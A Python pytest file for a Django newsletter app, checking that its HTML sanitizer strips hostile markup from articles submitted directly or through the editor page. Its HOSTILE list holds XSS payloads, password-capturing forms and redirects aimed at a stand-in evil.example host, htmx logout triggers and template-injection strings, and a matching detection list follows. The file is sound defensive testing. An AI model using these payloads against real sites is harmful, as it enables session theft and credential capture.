"""Whatever is sent, only the journal's own tags are kept, through each door."""

import re
from collections.abc import Callable

import pytest
from django.test import Client

from community.core import richtext
from members.models import Member
from newsletter.models import Article
from tests.newsletter import journal

HOSTILE = [
    "<script>alert(1)</script>",
    "<p><img src=x onerror=alert(1)></p>",
    "<svg onload=alert(1)><circle/></svg>",
    '<p><a href="java&#09;script:alert(1)">x</a></p>',
    '<p><a href="data:text/html,<script>alert(1)</script>">x</a></p>',
    '<p><a href="vbscript:msgbox(1)">x</a></p>',
    '<form action="//evil.example"><input name="password"></form>',
    '<base href="//evil.example/"><meta http-equiv="refresh" content="0;url=//evil.example">',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<style>body{display:none}</style>",
    '<p style="position:fixed" id="csrfmiddlewaretoken" class="btn" name="forms">x</p>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<p hx-get="/accounts/logout/" hx-trigger="load" data-autosave="/x/">x</p>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<p><img src=//evil.example/pixel.gif></p>",
]
WORST = "<p>Avant.</p>" + "".join(HOSTILE) + "<p>Après.</p>"
DANGERS = [
    *("<script", "<img", "<svg", "<form", "<input", "<base", "<meta", "<iframe", "<style", "<math"),
    *("onerror", "onload", "javascript", "java\tscript", "data:text", "vbscript", "srcdoc"),
    *("style=", "id=", "class=", "name=", "hx-", "data-", "title="),
]


def dangers(html: str) -> list[str]:
    """What of it would still run, load, or catch the page's own scripts."""
    tags = " ".join(re.findall(r"<[^>]*>", html.lower()))
    return [danger for danger in DANGERS if danger in tags]


@pytest.mark.parametrize("html", HOSTILE)
def test_nothing_hostile_is_left(html: str):
    assert dangers(richtext.article(f"<p>Avant.</p>{html}")) == []


@pytest.mark.parametrize("html", [*HOSTILE, WORST, journal.BODY])
def test_cleaning_twice_is_cleaning_once(html: str):
    once = richtext.article(html)
    assert richtext.article(once) == once


def test_links_to_the_web_and_to_mail_are_kept():
    html = '<p><a href="https://x.example/">x</a> <a href="mailto:a@x.example">y</a></p>'
    assert richtext.article(html).count("href=") == 2


def test_what_other_programs_write_keeps_its_meaning():
    pasted = "<h1>Un</h1><h4>Deux</h4><p><b>gras</b> <i>penché</i></p>"
    expected = "<h2>Un</h2><h3>Deux</h3><p><strong>gras</strong> <em>penché</em></p>"
    assert richtext.article(pasted) == expected


def test_text_without_tags_is_markdown():
    expected = "<h2>Un titre</h2>\n<p>Un &lt;script&gt; et <strong>du gras</strong>.</p>"
    assert richtext.article("## Un titre\n\nUn <script> et **du gras**.") == expected


def test_a_table_stays_a_table():
    table = "<table><thead><tr><th>A</th></tr></thead><tbody><tr><td>1</td></tr></tbody></table>"
    assert richtext.article(table) == table


def test_the_action_cleans(alice: Member):
    article = journal.make_draft(journal.make_issue(), author=alice, body=WORST)
    assert dangers(article.body_fr) == []


def test_the_page_of_the_editor_cleans(alice: Member, sign_in: Callable[..., Client]):
    article = journal.make_draft(journal.make_issue(), author=alice)
    page = f"/newsletter/desk/12/{article.slug}/edit/"
    sign_in(alice).post(page, journal.typed(article, body=WORST))
    stored = Article.objects.get(pk=article.pk).body_fr
    assert (dangers(stored), stored[:13], "Après." in stored) == ([], "<p>Avant.</p>", False)


def test_template_marks_are_only_letters(alice: Member, sign_in: Callable[..., Client]):
    text = "{{ 7*7 }} {% debug %} {event.__init__.__globals__}"
    article = journal.make_article(alice, title=text, standfirst=text, body=f"<p>{text}</p>")
    page = sign_in(alice).get(article.get_absolute_url()).content.decode()
    assert page.count("{{ 7*7 }} {% debug %} {event.__init__.__globals__}") >= 4


@pytest.mark.parametrize("field", ["title", "standfirst"])
def test_tags_in_plain_fields_are_shown(field: str, alice: Member, sign_in: Callable[..., Client]):
    article = journal.make_article(alice, **{field: "<img src=x onerror=alert(1)>"})
    client = sign_in(alice)
    for path in ("/newsletter/", article.issue.get_absolute_url(), article.get_absolute_url()):
        assert "<img" not in client.get(path).content.decode()
